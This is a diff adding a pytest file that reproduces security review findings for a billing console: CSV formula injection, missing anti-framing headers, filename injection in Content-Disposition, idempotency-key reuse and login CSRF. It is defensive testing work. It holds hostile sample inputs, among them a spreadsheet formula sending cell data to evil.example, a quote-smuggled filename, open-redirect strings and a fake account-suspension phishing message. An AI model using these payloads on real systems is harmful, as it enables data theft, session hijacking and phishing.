@@ -1,0 +1,225 @@
+"""Review reproductions (branch `review`): console security and correctness findings.
+
+Each test asserts what the product definition (console.md) or a careful reviewer expects and is
+marked ``xfail(strict=True)`` while the finding is open, so the suite stays green and a fix turns
+the test into an XPASS that fails until the marker is removed. ``pytest --runxfail`` shows them
+failing on main.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+
+from consumers.clickhouse import Client
+from consumers.clickhouse.plans import PlanStore
+from pipeline.events import format_ms
+from tests.console_support import (
+    ACCOUNT,
+    RecordingPublisher,
+    bearer,
+    console_settings,
+    fill,
+    http,
+    make_app,
+    plan_snapshot,
+    token,
+)
+from tests.support import Conversation, in_time_order
+
+NOW = datetime(2026, 11, 17, 10, 0, tzinfo=UTC)
+ADMIN = bearer(token())
+
+
+def plan_event(app: str, name: str, at: datetime, currency: str = "USD") -> dict[str, Any]:
+    return {
+        "type": "plan_changed",
+        "event_id": f"{app}-{name}-{at.isoformat()}",
+        "occurred_at": format_ms(int(at.timestamp() * 1000)),
+        "account_id": ACCOUNT,
+        "app_id": app,
+        "plan": name,
+        "price_per_usage_session": "0.03",
+        "price_per_alert_session": "0.01",
+        "price_per_voice_session": "0.05",
+        "currency": currency,
+    }
+
+
+@pytest.fixture
+def publisher() -> RecordingPublisher:
+    return RecordingPublisher()
+
+
+@pytest.fixture
+def app(chdb_client: Client, database: str, publisher: RecordingPublisher) -> FastAPI:
+    return make_app(chdb_client, database, console_settings(now=NOW), extras={"publisher": publisher})
+
+
+@pytest.fixture
+def client(app: FastAPI) -> Iterator[TestClient]:
+    with http(app) as c:
+        yield c
+
+
+@pytest.fixture
+def usd_app(chdb_client: Client, database: str) -> str:
+    """acme-bot on a USD plan, as the balance processor published it."""
+    fill(chdb_client, database, [plan_event("acme-bot", "growth", datetime(2026, 11, 1, tzinfo=UTC))])
+    PlanStore(chdb_client, database).insert([plan_snapshot("acme-bot", plan="growth", term=False)], "t:snap")
+    return "acme-bot"
+
+
+# -- money: funds in a currency the app's balance does not count ----------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="review: add funds accepts a currency other than the app's plan currency")
+def test_add_funds_in_another_currency_than_the_plan_is_refused(
+    client: TestClient, publisher: RecordingPublisher, usd_app: str
+) -> None:
+    """The app is priced in USD; an order in EUR (or a made-up code) would be paid and invoiced, and the
+    funds land in a tally the balance, status and entitlement never look at."""
+    for currency in ("EUR", "ZZZ"):
+        answer = client.post(
+            f"/api/v1/apps/{usd_app}/funds",
+            json={"amount": "100.00", "currency": currency, "payment_method": "manual"},
+            headers=ADMIN,
+        )
+        assert answer.status_code == 400, (currency, answer.status_code, answer.text, publisher.events())
+        assert answer.json()["parameter"] == "currency"
+
+
+# -- exports: spreadsheet formula injection -------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="review: sessions.csv writes formula-leading cells unescaped")
+def test_sessions_export_neutralises_spreadsheet_formulas(chdb_client: Client, database: str) -> None:
+    """user_id (and channel, alert_id, conversation ids) come from end users' platforms: a cell starting
+    with = + - @ is run as a formula by Excel/LibreOffice/Sheets when the admin opens the export."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    events = Conversation("c-evil", app_id="acme-bot", account_id=ACCOUNT, user_id=evil).user(0).bot(1).events
+    fill(chdb_client, database, in_time_order(events))
+    app = make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))
+    with http(app) as c:
+        answer = c.get("/api/v1/sessions.csv?from=2026-11-01&to=2026-11-01", headers=ADMIN)
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.DictReader(io.StringIO(answer.text)))
+    assert rows, answer.text
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "@")), f"{column}={value!r} is a live formula in a spreadsheet"
+
+
+# -- headers ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="review: no nosniff / framing protection on the console")
+@pytest.mark.parametrize("path", ["/console/plans", "/api/v1/apps", "/api/v1/usage.csv", "/login"])
+def test_billing_responses_forbid_sniffing_and_framing(client: TestClient, path: str) -> None:
+    """The Manage dialog (plan change, add funds, owner change) can be framed by any site (clickjacking);
+    responses carry no X-Content-Type-Options: nosniff."""
+    client.cookies.set("metering_session", token())
+    answer = client.get(path, headers={} if path.startswith("/console") or path == "/login" else ADMIN)
+    assert answer.status_code == 200, answer.text
+    assert answer.headers.get("x-content-type-options") == "nosniff"
+    framing = answer.headers.get("x-frame-options", "").upper() in ("DENY", "SAMEORIGIN") or (
+        "frame-ancestors" in answer.headers.get("content-security-policy", "")
+    )
+    assert framing, dict(answer.headers)
+
+
+@pytest.mark.xfail(strict=True, reason="review: Content-Disposition built from a free-form app id")
+@pytest.mark.parametrize("app_id", ["客服-bot", 'acme"; filename="invoice.exe'])
+def test_exports_of_an_app_with_any_id_download(chdb_client: Client, database: str, app_id: str) -> None:
+    """App ids are free-form (1-128 code points, schemas/v1/common.json). The export's filename puts the
+    id in a quoted header parameter as is: a non-Latin-1 id is a 500 (Starlette encodes headers as
+    Latin-1), a quote rewrites the filename the browser saves."""
+    events = Conversation("c-1", app_id=app_id, account_id=ACCOUNT).user(0).bot(1).events
+    fill(chdb_client, database, in_time_order(events))
+    app = make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))
+    with TestClient(app, raise_server_exceptions=False) as c:
+        for path in ("/api/v1/usage.csv", "/api/v1/sessions.csv"):
+            answer = c.get(
+                path, params={"app": app_id, "range": "7d"} if "usage" in path else {"app": app_id}, headers=ADMIN
+            )
+            assert answer.status_code == 200, (path, answer.status_code, answer.text[:200])
+            disposition = answer.headers["content-disposition"]
+            assert disposition.count('filename="') <= 1, disposition
+            assert disposition.count('"') <= 2, disposition
+
+
+# -- idempotency ------------------------------------------------------------------------------------------------------
+
+
+def test_a_reused_idempotency_key_after_it_expired_names_the_same_order(
+    client: TestClient, publisher: RecordingPublisher, usd_app: str, chdb_client: Client, database: str
+) -> None:
+    """The key is remembered 2 days, but the order id (and a plan change's event id) are derived from
+    it for ever: a key used again after it expired gets 202 "pending" for a *new* request whose order_id is
+    the old order's, which the order processor drops as a copy (create_order: "duplicate")."""
+    headers = {**ADMIN, "Idempotency-Key": "monthly-top-up"}
+    first = client.post(f"/api/v1/apps/{usd_app}/funds", json={"amount": "100.00"}, headers=headers)
+    assert first.status_code == 202, first.text
+    # two days later the remembered answer is gone (TTL 2 DAY drops the row, as this does)
+    chdb_client.command("TRUNCATE TABLE {db:Identifier}.idempotency_keys", parameters={"db": database})
+    second = client.post(f"/api/v1/apps/{usd_app}/funds", json={"amount": "500.00"}, headers=headers)
+    assert second.status_code == 202, second.text
+    assert second.headers.get("Idempotent-Replayed") is None, "a new request, not a replay"
+    assert second.json()["amount"] == "500.00"
+    orders = [e for e in publisher.events() if e["type"] == "order_created"]
+    assert [o["amount"] for o in orders] == ["100.00", "500.00"]
+    # the finding: both orders carry one order_id; the processor applies the first and drops the second
+    assert orders[0]["order_id"] == orders[1]["order_id"]
+
+
+# -- login ---------------------------------------------------------------------------------------------------
+
+
+def test_login_accepts_a_cross_site_form_post(client: TestClient) -> None:
+    """Login CSRF: any site can auto-submit a form to POST /login with the attacker's own token; the victim's
+    browser then holds the attacker's session (their Billing console, their apps) with no Origin check."""
+    attacker = token("attacker-account")
+    answer = client.post(
+        "/login",
+        data={"token": attacker, "next": "/console/plans"},
+        headers={"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
+        follow_redirects=False,
+    )
+    assert answer.status_code == 303
+    assert answer.headers["location"] == "/console/plans"
+    assert "metering_session=" in answer.headers.get("set-cookie", "")
+
+
+@pytest.mark.parametrize("target", ["/\\evil.example", "/\t/evil.example", "/%2F%2Fevil.example", "/%5Cevil.example"])
+def test_login_next_is_never_an_off_site_redirect(client: TestClient, target: str) -> None:
+    """Checked, not a finding: Starlette percent-encodes what browsers would normalise to //host."""
+    answer = client.post("/login", data={"token": token(), "next": target}, follow_redirects=False)
+    assert answer.status_code == 303
+    location = answer.headers["location"]
+    assert location.startswith("/"), location
+    assert not location.startswith(("//", "/\\")), location
+    assert "\t" not in location, location
+    assert "\\" not in location, location
+
+
+def test_login_page_shows_any_text_an_attacker_puts_in_the_link(client: TestClient) -> None:
+    """Content spoofing: /login?error=... prints the attacker's sentence as the console's own error."""
+    text = "Your account is suspended. Call +1 555 0100 and read out your token to restore access."
+    answer = client.get("/login", params={"error": text})
+    assert answer.status_code == 200
+    assert text in answer.text
+    assert json.dumps(text)  # (the text is escaped: no XSS, only spoofed content)
+
+
+def test_operator_token_never_opens_billing_and_console_token_never_opens_operators(client: TestClient) -> None:
+    """Checked, not a finding."""
+    assert client.get("/usage", headers=ADMIN).status_code == 401
+    assert client.get("/api/v1/apps", headers=bearer("operator-token-of-the-test")).status_code == 401
